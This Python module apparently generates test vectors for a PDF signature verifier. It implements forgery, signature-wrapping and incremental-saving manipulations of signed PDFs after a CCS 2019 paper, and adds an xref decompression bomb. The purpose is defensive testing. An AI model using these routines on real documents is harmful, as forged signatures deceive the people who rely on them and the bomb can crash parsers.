"""What somebody may do to the octets of a sealed PDF: to the place of the signature, and to what is around it.

The families are those of "1 Trillion Dollar Refund: How To Spoof PDF Signatures" (CCS 2019): universal signature
forgery (the signature cannot be checked), signature wrapping (what is signed stands where no reader looks) and
incremental saving (a reader does not see that there is a further revision).
"""

import re
from io import BytesIO
from typing import Any
from zlib import compress

from pikepdf import Pdf

from scripts.vectors.pdf_changes import page_swapped
from scripts.vectors.pdf_revisions import changed_objects, offsets_of, table_of, trailer_of, with_table
from scripts.vectors.pdf_sealing import GAP, ROOM, saved
from signing.pdf_form import contents_octets, one_place


def exchanged(raw: bytes, old: bytes, new: bytes) -> bytes:
    """Put `new` and spaces for the one `old`; a vector that would not be changed is no vector."""
    if raw.count(old) != 1 or len(new) > len(old):
        raise ValueError(f"found {raw.count(old)} times, or too short: {old[:40]!r}")
    return raw.replace(old, new.ljust(len(old)))


def flipped(raw: bytes, found: bytes) -> bytes:
    """Return the file with a bit flipped in the last octet of the one `found`."""
    return exchanged(raw, found, found[:-1] + bytes([found[-1] ^ 1]))


def opened_at(raw: bytes) -> int:
    """Return where the hex string of the signature opens."""
    return raw.index(b"<", raw.index(b"/Contents ", one_place(raw)))


def contents_of(raw: bytes) -> bytes:
    """Return the hex string of the signature."""
    return raw[opened_at(raw) : opened_at(raw) + GAP]


def cms_of(raw: bytes) -> bytes:
    """Return the CMS in it, as long as it says itself."""
    padded = bytes.fromhex(contents_of(raw)[1:-1].decode())
    return padded[: 4 + int.from_bytes(padded[2:4], "big")]


# --- universal signature forgery ---


def range_as(raw: bytes, written: str) -> bytes:
    """Return the file with another byte range; {a}, {b} and {c} stand for the numbers of the real one."""
    opened = opened_at(raw)
    numbers = {"a": opened, "b": opened + GAP, "c": len(raw) - opened - GAP}
    whole = raw[one_place(raw) : raw.index(b"]", one_place(raw)) + 1]
    return exchanged(raw, whole, written.format(**numbers).encode())


def contents_as(raw: bytes, written: bytes) -> bytes:
    """Return the file with something else in place of /Contents and its string."""
    return exchanged(raw, b"/Contents " + contents_of(raw), written)


def cms_as(raw: bytes, cms: bytes) -> bytes:
    """Return the file with another CMS."""
    return exchanged(raw, contents_of(raw), contents_octets(cms, ROOM))


def upper_case(raw: bytes) -> bytes:
    """Return the file with the same CMS in capital digits."""
    return exchanged(raw, contents_of(raw), contents_of(raw).upper())


# --- signature wrapping ---


def moved_signature(raw: bytes) -> bytes:
    """Return the same octets with the signature in another place, for a reader who believes whoever tells him where."""
    string = contents_of(raw)
    covered = raw.replace(string, b"")
    return covered[:-40] + string + covered[-40:]


def entries_in_the_gap(raw: bytes) -> bytes:
    """Return the file with further entries of the signature's dictionary, where the signature does not cover it."""
    inserted = b"<%s> /Reason (EXAMPLE CERTIFICATE OF SHOP Z) /Rest <" % cms_of(raw).hex().encode()
    return exchanged(raw, contents_of(raw), inserted.ljust(GAP - 1, b"0") + b">")


def objects_in_the_gap(raw: bytes) -> bytes:
    """Return the file with a forged page in the gap, for a reader who looks for objects and not into the table."""
    (page,) = _forged(raw).values()
    inserted = b"<%s> >>\nendobj\n%s99 0 obj\n<< /Rest <" % (cms_of(raw).hex().encode(), page)
    return exchanged(raw, contents_of(raw), inserted.ljust(GAP - 1, b"0") + b">")


def moved_second_part(raw: bytes) -> bytes:
    """Return the file with the signed second part moved back, and in front of it what its `startxref` points to now.

    The signature's dictionary gets a second byte range, which is the true one.
    """
    opened = opened_at(raw)
    first, second = raw[:opened], raw[opened + GAP :]
    table_at = int(raw[raw.rindex(b"startxref") :].split()[1])
    forged = b"".join(_forged(raw).values())
    ending = b" /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /Type /Sig >>\nendobj\n"
    offsets = offsets_of(raw)
    table_length = len(b"xref\n0 %d\n" % (len(offsets) + 1)) + 20 * (len(offsets) + 1) + len(trailer_of(raw)) + 1
    moved_at = max(table_at, opened + GAP + 80 + len(ending + forged)) + table_length
    again = b" /ByteRange [ 0 %d %d %d ]" % (opened, moved_at, len(second))
    before = first + contents_of(raw) + again + ending
    moved = {number: at if at < opened else at + moved_at - opened - GAP for number, at in offsets.items()}
    moved[next(iter(_forged(raw)))] = len(before)
    before += forged
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(moved) + 1)
    table += b"".join(b"%010d 00000 n \n" % moved[number] for number in sorted(moved)) + trailer_of(raw) + b"\n"
    return before.ljust(table_at) + table + second


# --- incremental saving ---


def without_table(raw: bytes) -> bytes:
    """Return the file with new objects behind its end, and nothing else."""
    return raw + b"".join(_forged(raw).values())


def without_trailer(raw: bytes) -> bytes:
    """Return the file with new objects and a table behind its end, but no trailer."""
    return raw + with_table(raw, _forged(raw)).partition(b"trailer")[0]


def with_copied_signature(raw: bytes) -> bytes:
    """Return the file with new objects behind its end, and the signature's own once more."""
    opened = opened_at(raw)
    number, begins = max((number, at) for number, at in offsets_of(raw).items() if at < opened)
    copied = raw[begins : raw.index(b"\nendobj\n", opened) + 8]
    return raw + with_table(raw, {**_forged(raw), number: copied})


def page_found_in_an_attachment(raw: bytes) -> bytes:
    """Return the file with a table alone behind its end: the page is now what an attached file holds as an object."""
    (number,) = _forged(raw)
    inside = raw.index(b"%d 0 obj\n" % number, raw.index(b"/EmbeddedFile "))
    return raw + table_of(raw, {number: b"%010d 00000 n \n" % inside}, len(raw))


def picture_freed(raw: bytes) -> bytes:
    """Return the file with a table alone behind its end: the picture over the page is free."""
    number = int(re.search(rb"/X0 (\d+) 0 R", raw)[1])  # type: ignore[index]
    return raw + table_of(raw, {number: b"0000000000 00001 f \n"}, len(raw))


# --- the written form ---


def comment_before_the_table(raw: bytes) -> bytes:
    """Return the file with octets between its objects and its table, which is still found."""
    at = raw.rindex(b"\nxref\n") + 1
    return raw[:at] + b"% octets\n" + raw[at:].replace(b"startxref\n%d" % at, b"startxref\n%d" % (at + 9))


def with_new_table(raw: bytes) -> bytes:
    """Return the file with its table made anew, after its objects were moved."""
    offsets = {number: at for number, at in offsets_of(raw).items() if at < raw.rindex(b"xref\n0 ")}
    start, trailer = raw[: raw.rindex(b"xref\n0 ")], trailer_of(raw)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
    table += b"".join(b"%010d 00000 n \n" % offsets[number] for number in sorted(offsets))
    return start + table + trailer + b"\nstartxref\n%d\n%%%%EOF\n" % len(start)


def encrypted(raw: bytes, **options: Any) -> bytes:
    """Return the file written anew and encrypted."""
    with Pdf.open(BytesIO(raw)) as pdf:
        return saved(pdf, **options)


def table_bomb(raw: bytes) -> bytes:
    """Return the file with a small stream in place of the table, which is a large one when it is unpacked."""
    start = raw[: raw.rindex(b"xref\n0 ")]
    bomb = compress(bytes(200_000_000))
    entries = b"<< /Type /XRef /Size 11 /W [ 1 3 1 ] /Root 1 0 R /Filter /FlateDecode /Length %d >>" % len(bomb)
    stream = b"10 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (entries, bomb)
    return start + stream + b"startxref\n%d\n%%%%EOF\n" % len(start)


def _forged(raw: bytes) -> dict[int, bytes]:
    """Return the content of the page, forged, under its own number."""
    return {number: octets for number, octets in changed_objects(raw, page_swapped).items() if b"SHOP Z" in octets}
